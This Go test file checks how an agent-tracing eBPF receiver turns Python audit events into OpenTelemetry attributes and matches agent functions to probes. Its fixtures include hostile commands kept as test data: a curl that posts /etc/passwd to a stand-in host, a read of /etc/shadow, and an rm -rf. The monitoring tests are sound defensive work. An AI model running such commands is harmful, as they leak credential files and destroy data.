package ebpfreceiver

import (
	"testing"

	"go.opentelemetry.io/collector/pdata/pcommon"

	"github.com/agenttrail/agenttrail/receiver/ebpfreceiver/internal/pyinfo"
	"github.com/agenttrail/agenttrail/receiver/ebpfreceiver/internal/spans"
)

func TestAuditAttributes(t *testing.T) {
	cases := []struct {
		name string
		args []any
		want map[string]string
	}{
		{"socket.connect", []any{"<socket>", []any{"10.0.0.5", int64(443)}},
			map[string]string{"network.peer.address": "10.0.0.5", "network.peer.port": "443"}},
		{"socket.connect", []any{"<socket>", "/run/docker.sock"},
			map[string]string{"network.peer.address": "/run/docker.sock", "network.transport": "unix"}},
		{"urllib.Request", []any{"https://api.example.test/v1/x", "<bytes: 10>", map[string]any{"Content-Type": "application/json"}, nil},
			map[string]string{"url.full": "https://api.example.test/v1/x", "http.request.method": "POST", "http.request.header.content-type": "application/json"}},
		{"urllib.Request", []any{"https://example.test/", nil, map[string]any{}, "DELETE"},
			map[string]string{"http.request.method": "DELETE"}},
		{"subprocess.Popen", []any{nil, []any{"curl", "-d", "@/etc/passwd", "http://x"}, nil, nil},
			map[string]string{"process.executable.path": "curl", "process.command_line": "curl -d @/etc/passwd http://x"}},
		{"subprocess.Popen", []any{"/bin/sh", "ls -l", nil, nil},
			map[string]string{"process.executable.path": "/bin/sh", "process.command_line": "ls -l"}},
		{"os.system", []any{"rm -rf /tmp/x"}, map[string]string{"process.command_line": "rm -rf /tmp/x"}},
		{"http.client.connect", []any{"<HTTPSConnection>", "api.example.test", int64(443)},
			map[string]string{"server.address": "api.example.test", "server.port": "443"}},
		{"open", []any{"/etc/shadow", "r", int64(524288)}, map[string]string{"file.path": "/etc/shadow", "agenttrail.open.mode": "r"}},
		{"os.remove", []any{"/srv/db.sqlite", int64(-100)}, map[string]string{"file.path": "/srv/db.sqlite"}},
		{"weird.event", nil, map[string]string{"agenttrail.python.audit.event": "weird.event"}},
	}
	for _, c := range cases {
		m := pcommon.NewMap()
		auditAttributes(m, c.name, c.args)
		for k, want := range c.want {
			v, ok := m.Get(k)
			if !ok || v.AsString() != want {
				t.Errorf("%s %v: %s = %q, want %q", c.name, c.args, k, v.AsString(), want)
			}
		}
		if _, ok := m.Get("agenttrail.python.audit.args"); ok != (len(c.args) > 0) {
			t.Errorf("%s: args attribute present = %v", c.name, ok)
		}
	}
}

func TestPythonFunctionMatching(t *testing.T) {
	p := &python{funcs: map[pyFuncKey]*spans.Probe{}}
	patterns := []pyPattern{
		{module: "customer_agent", qualname: "Agent.handle_prompt", cfg: PythonFunctionConfig{Role: "prompt"}},
		{module: "agents.bank", qualname: "Tools.*", cfg: PythonFunctionConfig{Role: "tool"}},
		{module: "*", qualname: "*.call_model", cfg: PythonFunctionConfig{Role: "inference", Model: "m"}},
	}
	cases := []struct {
		qualname, file string
		want           string // symbol, "" for no match
		role           spans.Role
		tool           string
	}{
		{"Agent.handle_prompt", "/srv/customer_agent.py", "customer_agent:Agent.handle_prompt", spans.RolePrompt, ""},
		{"Agent.handle_prompt", "/srv/other.py", "", "", ""},
		{"Tools.export", "/srv/agents/bank/__init__.py", "bank:Tools.export", spans.RoleTool, "export"},
		{"Tools.export", "/srv/agents/bank.py", "bank:Tools.export", spans.RoleTool, "export"},
		{"Tools.export", "/srv/other/bank.py", "", "", ""},
		{"Agent.call_model", "/x/y.py", "y:Agent.call_model", spans.RoleInference, ""},
		{"call_model", "/x/y.py", "", "", ""},
	}
	for _, c := range cases {
		probe := p.match("t", patterns, &pyinfo.Code{Qualname: c.qualname, Filename: c.file, FirstLine: 3})
		switch {
		case c.want == "" && probe != nil:
			t.Errorf("%s in %s matched %s", c.qualname, c.file, probe.Symbol)
		case c.want != "" && (probe == nil || probe.Symbol != c.want || probe.Role != c.role || probe.ToolName != c.tool || probe.Line != 3):
			t.Errorf("%s in %s: %+v, want %s %s", c.qualname, c.file, probe, c.want, c.role)
		}
	}
	a := p.match("t", patterns, &pyinfo.Code{Qualname: "Agent.call_model", Filename: "/x/y.py"})
	b := p.match("t", patterns, &pyinfo.Code{Qualname: "Agent.call_model", Filename: "/x/y.py"})
	if a != b {
		t.Error("the probe of a function is not reused")
	}
}
